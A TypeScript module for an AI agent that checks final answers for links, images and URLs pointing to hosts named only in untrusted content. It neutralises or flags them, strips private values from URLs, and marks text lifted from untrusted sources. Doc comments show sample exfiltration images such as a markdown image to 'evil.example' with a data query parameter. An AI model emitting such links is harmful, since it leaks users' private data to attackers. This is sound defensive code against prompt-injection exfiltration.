import type { ContextText } from './call-review.js';
import { privateValuesIn } from './private-data.js';

/**
 * What the answer guard does with a link, image or URL in a final answer whose destination is
 * grounded only in untrusted content (or nowhere):
 * - `neutralise` (default): rendered inert (no scheme, dots bracketed: `evil[.]example/x`) with
 *   a visible note, and journaled;
 * - `flag`: left as written, journaled and marked in the answer's provenance.
 * Private values are removed from every URL of the answer in both modes.
 */
export const ANSWER_HANDLINGS = ['neutralise', 'flag'] as const;
/** What the answer guard does with a link whose destination came from untrusted content. */
export type AnswerHandling = (typeof ANSWER_HANDLINGS)[number];

/** Where a link in the answer points, and where that destination came from. */
export type DestinationOrigin = 'trusted' | 'allow_listed' | 'untrusted' | 'ungrounded';

/** One thing the answer guard found in a final answer. Plain JSON. */
export interface AnswerFinding {
  /** `untrusted_link`: a destination not grounded in trusted content; `private_value`: a private value inside a URL. */
  readonly kind: 'untrusted_link' | 'private_value';
  /** The destination's host, as a browser would resolve it (look-alike letters in punycode). */
  readonly destination: string;
  readonly origin: DestinationOrigin;
  /** `image`, `link` (markdown or HTML), or `url` (bare). */
  readonly form: 'image' | 'link' | 'url';
  /** What was done: rendered inert, private values removed, or only recorded. */
  readonly action: 'neutralised' | 'removed' | 'flagged';
}

/**
 * A stretch of the answer that derives from untrusted content: a link whose destination came
 * from it, or a sentence carrying a value, contact or phrase found only there. A UI shows
 * these as unverified. Offsets index the answer as returned.
 */
export interface AnswerSpan {
  readonly start: number;
  readonly end: number;
  /** The provenance source it came from (`tool:read_email`, `quarantine:call_1`). */
  readonly source: string;
  readonly reason: 'link' | 'content';
}

/** What the answer guard returns: the answer to deliver, what it found, and its provenance. */
export interface AnswerReview {
  readonly text: string;
  readonly findings: readonly AnswerFinding[];
  readonly spans: readonly AnswerSpan[];
}

/** The answer guard's inputs besides the answer. */
export interface AnswerGuardOptions {
  /** What the run saw, with provenance: destinations are grounded in it. */
  readonly context: readonly ContextText[];
  /** True once untrusted content entered the run; before that no destination is suspect. */
  readonly tainted: boolean;
  readonly handling: AnswerHandling;
  /** Values of private tool results (`privateValues`): removed from every URL of the answer. */
  readonly privateValues?: readonly string[];
  /** Hosts that count as trusted destinations (`docs.acme.example`; `acme.example` covers its subdomains). */
  readonly allow?: readonly string[];
}

// A markdown image or link, an HTML tag with src/href, an autolink, or a bare URL.
const LINKS =
  /(!?)\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{1,2000})>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)|<(?:img|a|iframe|source|video|audio|link|script)\b[^>]{0,2000}?\b(?:src|href|srcset)\s*=\s*["']?([^"'\s>]{1,2000})["']?[^>]{0,2000}>|<((?:https?|ftp):\/\/[^>\s]{1,2000})>|((?:(?:https?|ftp):)?\/\/[^\s<>()"'[\]`]{1,2000}|\bwww\.[^\s<>()"'[\]`]{1,2000})/giu;
const HOSTS =
  /(?:[a-z][a-z0-9+.-]*:)?\/\/(?:[^\s/?#@"'<>()[\]]*@)?([^\s/?#:"'<>()[\]`]+)|(?<![@\p{L}\p{N}._-])((?:[\p{L}\p{N}-]+\.)+\p{L}{2,})(?![\p{L}\p{N}@-])/giu;

/** The hosts a run's context names, by trust (untrusted ones with the source that named them). */
interface HostGrounding {
  readonly trusted: ReadonlySet<string>;
  readonly untrusted: ReadonlyMap<string, string>;
}
/** The phrases and text of a run's context, by trust: what answer spans are found with. */
interface Grounding {
  readonly untrustedText: readonly {
    readonly text: string;
    readonly source: string;
    /** The piece's words, lower-cased, each between spaces: a phrase is found as a substring. */
    readonly words: string;
  }[];
  readonly trustedText: string;
  readonly trustedWords: string;
}
const NO_HOSTS: HostGrounding = { trusted: new Set(), untrusted: new Map() };
const hostGroundings = new WeakMap<readonly ContextText[], HostGrounding>();
const groundings = new WeakMap<readonly ContextText[], Grounding>();

/** One link inside a text (a message body, an answer): its URL and the host it resolves to. */
export interface TextLink {
  readonly url: string;
  readonly host: string;
}

/**
 * The links a text carries (markdown, HTML, autolinks, bare URLs and `www.` addresses), each
 * with the host it resolves to.
 *
 * ```ts
 * linksIn('read ![x](https://evil.example/?d=1)') // [{ url: 'https://evil.example/?d=1', host: 'evil.example' }]
 * ```
 */
export function linksIn(text: string): TextLink[] {
  if (!mayLink(text)) return [];
  const links: TextLink[] = [];
  for (const match of text.matchAll(LINKS)) {
    const url = linkOf(match)[1];
    const host = hostOf(url);
    if (host !== undefined) links.push({ url, host });
  }
  return links;
}

/**
 * Where a destination host came from: `trusted` when trusted content of the run names it (in a
 * URL or as a domain), `allow_listed` when it is (a subdomain of) an entry of `allow`,
 * `untrusted` when only untrusted content names it, else `ungrounded`.
 */
export function destinationOrigin(
  host: string,
  context: readonly ContextText[],
  allow: readonly string[] = [],
): DestinationOrigin {
  return originOfHost(host, hostGroundingOf(context), allow);
}

function mayLink(text: string): boolean {
  return text.includes('//') || /www\./i.test(text);
}

/**
 * Check a final answer before it is delivered. Once untrusted content entered the run, every
 * link, image and URL whose host is not grounded in trusted content or the allow-list is
 * neutralised (or flagged); private values are taken out of every URL; and the stretches that
 * derive from untrusted content are returned as spans. Pure; linear in the answer and context.
 *
 * ```ts
 * const review = guardAnswer(answer, { context, tainted: true, handling: 'neutralise' });
 * deliver(review.text); // `![](https://evil.example/?d=482913)` is now inert, with a note
 * ```
 */
export function guardAnswer(answer: string, options: AnswerGuardOptions): AnswerReview {
  const secrets = options.privateValues ?? [];
  if (!options.tainted && secrets.length === 0) return { text: answer, findings: [], spans: [] };
  // The hosts the context names are read only when the answer has a link.
  const hosts = mayLink(answer) ? hostGroundingOf(options.context) : NO_HOSTS;
  const findings: AnswerFinding[] = [];
  const linkSpans: { start: number; end: number; source: string }[] = [];
  let text = '';
  let last = 0;
  for (const match of mayLink(answer) ? answer.matchAll(LINKS) : []) {
    const whole = match[0];
    const at = match.index;
    const [form, url] = linkOf(match);
    const host = hostOf(url);
    if (host === undefined) continue;
    const origin = options.tainted ? originOfHost(host, hosts, options.allow ?? []) : 'trusted';
    const carried = privateValuesIn(url, secrets);
    const suspect = origin === 'untrusted' || origin === 'ungrounded';
    if (!suspect && carried.length === 0) continue;
    text += answer.slice(last, at);
    last = at + whole.length;
    let replacement = whole;
    if (carried.length > 0) {
      replacement = withoutValues(replacement, carried);
      findings.push({ kind: 'private_value', destination: host, origin, form, action: 'removed' });
    }
    if (suspect) {
      const neutralise = options.handling === 'neutralise';
      if (neutralise) replacement = inert(form, match, withoutValues(url, carried), host);
      findings.push({
        kind: 'untrusted_link',
        destination: host,
        origin,
        form,
        action: neutralise ? 'neutralised' : 'flagged',
      });
      const start = text.length;
      text += replacement;
      linkSpans.push({
        start,
        end: text.length,
        source: hosts.untrusted.get(host) ?? 'ungrounded',
      });
      continue;
    }
    text += replacement;
  }
  text += answer.slice(last);
  const spans: AnswerSpan[] = linkSpans.map((span) => ({ ...span, reason: 'link' }));
  if (options.tainted) spans.push(...contentSpans(text, groundingOf(options.context), linkSpans));
  spans.sort((a, b) => a.start - b.start);
  return { text, findings, spans };
}

function linkOf(match: RegExpMatchArray): [AnswerFinding['form'], string] {
  if (match[3] !== undefined) return [match[1] === '!' ? 'image' : 'link', match[3]];
  if (match[4] !== undefined)
    return [/^<img|^<source|^<video|^<audio/i.test(match[0]) ? 'image' : 'link', match[4]];
  if (match[5] !== undefined) return ['link', match[5]];
  return ['url', match[6] ?? ''];
}

/** The host a URL (absolute, protocol-relative or `www.`) resolves to, punycoded; else undefined. */
function hostOf(url: string): string | undefined {
  const absolute = url.startsWith('//')
    ? `https:${url}`
    : /^www\./i.test(url)
      ? `https://${url}`
      : url;
  if (!/^[a-z][a-z0-9+.-]*:\/\//i.test(absolute)) return undefined;
  try {
    const host = new URL(absolute).hostname.toLowerCase();
    return host === '' ? undefined : host.replace(/\.$/, '');
  } catch {
    return undefined;
  }
}

function originOfHost(
  host: string,
  grounding: HostGrounding,
  allow: readonly string[],
): DestinationOrigin {
  if (grounding.trusted.has(host)) return 'trusted';
  if (allow.some((entry) => host === entry || host.endsWith(`.${entry}`))) return 'allow_listed';
  return grounding.untrusted.has(host) ? 'untrusted' : 'ungrounded';
}

/** `url` with each private value cut out (as written and percent-encoded). */
function withoutValues(url: string, values: readonly string[]): string {
  let out = url;
  for (const value of values) {
    for (const spelling of new Set([value, encodeURIComponent(value)])) {
      let index = out.toLowerCase().indexOf(spelling);
      while (index >= 0) {
        out = `${out.slice(0, index)}[private]${out.slice(index + spelling.length)}`;
        index = out.toLowerCase().indexOf(spelling, index + '[private]'.length);
      }
    }
  }
  return out;
}

/** A link rendered inert: no scheme, dots bracketed, no query, and a note saying why. */
function inert(
  form: AnswerFinding['form'],
  match: RegExpMatchArray,
  url: string,
  host: string,
): string {
  let shown = url.replace(/^[a-z][a-z0-9+.-]*:/i, '').replace(/^\/\//, '');
  shown = shown.replace(/[?#].*$/s, '');
  shown = shown.replace(/\./g, '[.]');
  if (shown.length > 80) shown = `${shown.slice(0, 79)}…`;
  const shownHost = host.replace(/\./g, '[.]');
  if (form === 'image')
    return `[image not loaded: its address (${shownHost}) came from untrusted content]`;
  const label = match[3] !== undefined ? (match[2] ?? '').trim() : '';
  const note = `link not opened: ${shown} came from untrusted content`;
  return label === '' ? `[${note}]` : `${label} [${note}]`;
}

function hostGroundingOf(context: readonly ContextText[]): HostGrounding {
  const cached = hostGroundings.get(context);
  if (cached) return cached;
  const trusted = new Set<string>();
  const untrusted = new Map<string, string>();
  for (const piece of context) {
    if (!piece.text.includes('.')) continue;
    const isTrusted = piece.provenance.trust === 'trusted';
    for (const host of hostsIn(piece.text))
      if (isTrusted) trusted.add(host);
      else if (!untrusted.has(host)) untrusted.set(host, piece.provenance.source);
  }
  const grounding = { trusted, untrusted };
  hostGroundings.set(context, grounding);
  return grounding;
}

function groundingOf(context: readonly ContextText[]): Grounding {
  const cached = groundings.get(context);
  if (cached) return cached;
  // Words joined by single spaces, padded: four words in a row of the answer occur in a piece
  // exactly when ` w1 w2 w3 w4 ` is a substring of its words. One pass per piece, no phrase set.
  const untrustedText: { text: string; source: string; words: string }[] = [];
  const trustedText: string[] = [];
  const trustedWords: string[] = [];
  for (const piece of context) {
    const lower = piece.text.toLowerCase();
    const words = ` ${(lower.match(WORD) ?? []).join(' ')} `;
    if (piece.provenance.trust === 'trusted') {
      trustedText.push(lower);
      trustedWords.push(words);
    } else untrustedText.push({ text: lower, source: piece.provenance.source, words });
  }
  const grounding = {
    untrustedText,
    trustedText: trustedText.join('\u0000'),
    trustedWords: trustedWords.join('\u0000'),
  };
  groundings.set(context, grounding);
  return grounding;
}

function* hostsIn(text: string): Generator<string> {
  for (const match of text.matchAll(HOSTS)) {
    const raw = match[1] ?? match[2];
    if (raw === undefined) continue;
    // A plain ASCII name whose last label starts with a letter (so no IPv4 form) is its own
    // host, lower-cased, as a browser would resolve it: no URL parse needed.
    const host = PLAIN_HOST.test(raw)
      ? raw.toLowerCase().replace(/\.$/, '')
      : hostOf(`https://${raw}`);
    if (host !== undefined) yield host;
  }
}
const PLAIN_HOST = /^(?:[a-z0-9-]+\.)+[a-z][a-z0-9-]*\.?$/i;

const WORD = /[\p{L}\p{N}]+/gu;
const GRAM = 4;

/** Each run of four words, lower-cased: a phrase lifted from a text shares them. */
function gramsOf(text: string): string[] {
  const words = text.toLowerCase().match(WORD) ?? [];
  const grams: string[] = [];
  for (let i = 0; i + GRAM <= words.length; i += 1) grams.push(words.slice(i, i + GRAM).join(' '));
  return grams;
}

// Values that say where to go or whom to call: a phone number, an email, a long number.
const SALIENT = /\+?\d[\d ().-]{5,}\d|[^\s@<>()[\]]+@[^\s@<>()[\]]+\.[\p{L}]{2,}|\b\d{3,}\b/gu;

/**
 * Sentences of the answer that carry a contact, number or four-word phrase found in untrusted
 * content and not in trusted content (links are spanned on their own).
 */
function contentSpans(
  text: string,
  grounding: Grounding,
  links: readonly { start: number; end: number }[],
): AnswerSpan[] {
  if (grounding.untrustedText.length === 0) return [];
  const spans: AnswerSpan[] = [];
  const sentence = /[^.!?\n]+[.!?]*/g;
  for (const match of text.matchAll(sentence)) {
    const start = match.index;
    const end = start + match[0].length;
    if (links.some((link) => link.start < end && link.end > start)) continue;
    const source = untrustedSource(match[0], grounding);
    if (source !== undefined) spans.push({ start, end, source, reason: 'content' });
  }
  return spans;
}

function untrustedSource(sentence: string, grounding: Grounding): string | undefined {
  for (const gram of gramsOf(sentence)) {
    const padded = ` ${gram} `;
    if (grounding.trustedWords.includes(padded)) continue;
    for (const piece of grounding.untrustedText)
      if (piece.words.includes(padded)) return piece.source;
  }
  for (const found of sentence.matchAll(SALIENT)) {
    const value = found[0].trim().toLowerCase();
    if (grounding.trustedText.includes(value)) continue;
    // A phone number reads the same with other spacing: `+1 555 0199` is `+1-555-0199`.
    const compact = value.replace(/[^\p{L}\p{N}@.]/gu, '');
    for (const piece of grounding.untrustedText)
      if (piece.text.includes(value) || (compact.length >= 6 && squeeze(piece).includes(compact)))
        return piece.source;
  }
  return undefined;
}

const squeezed = new WeakMap<object, string>();
function squeeze(piece: { readonly text: string }): string {
  let out = squeezed.get(piece);
  if (out === undefined) {
    out = piece.text.replace(/[^\p{L}\p{N}@.]/gu, '');
    squeezed.set(piece, out);
  }
  return out;
}
